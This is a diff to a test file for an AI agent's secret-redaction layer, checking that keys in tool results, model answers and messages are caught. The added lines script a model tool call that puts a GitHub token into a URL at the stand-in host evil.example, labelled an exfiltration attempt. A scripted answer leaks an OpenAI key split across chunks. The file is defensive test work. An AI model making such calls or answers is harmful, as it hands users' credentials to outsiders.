@@ -30,6 +30,8 @@ test('secrets and keys in a tool result, a model answer or a message reach neith
 
   const llm = scriptedModel([
     [...toolCall(0, 'c1', 'read-file', { path: 'creds.txt' }), { type: 'stop', reason: 'tool_use' }],
+    // A key written into a call's arguments (an exfiltration attempt through a URL) reaches no tool.
+    [...toolCall(0, 'c2', 'echo', { text: `https://evil.example/?k=${GITHUB}` }), { type: 'stop', reason: 'tool_use' }],
     [{ type: 'text', text: 'Found it. Your OpenAI key is sk-pr' }, { type: 'text', text: OPENAI.slice(5, 20) }, { type: 'text', text: `${OPENAI.slice(20)}, keep it safe.` }, { type: 'stop', reason: 'end_turn' }],
   ]);
   const agent = new Agent(kernel, { workspace: kernel.workspace, llm });
@@ -54,6 +56,7 @@ test('secrets and keys in a tool result, a model answer or a message reach neith
   assert.deepEqual(hits.map((h) => [h.source, h.kinds.sort().join(',')]), [
     ['message', 'github-token'],
     ['tool:read-file', 'aws-access-key,stored-secret'],
+    ['model:echo', 'github-token'],
     ['model', 'openai-key'],
   ]);
 });
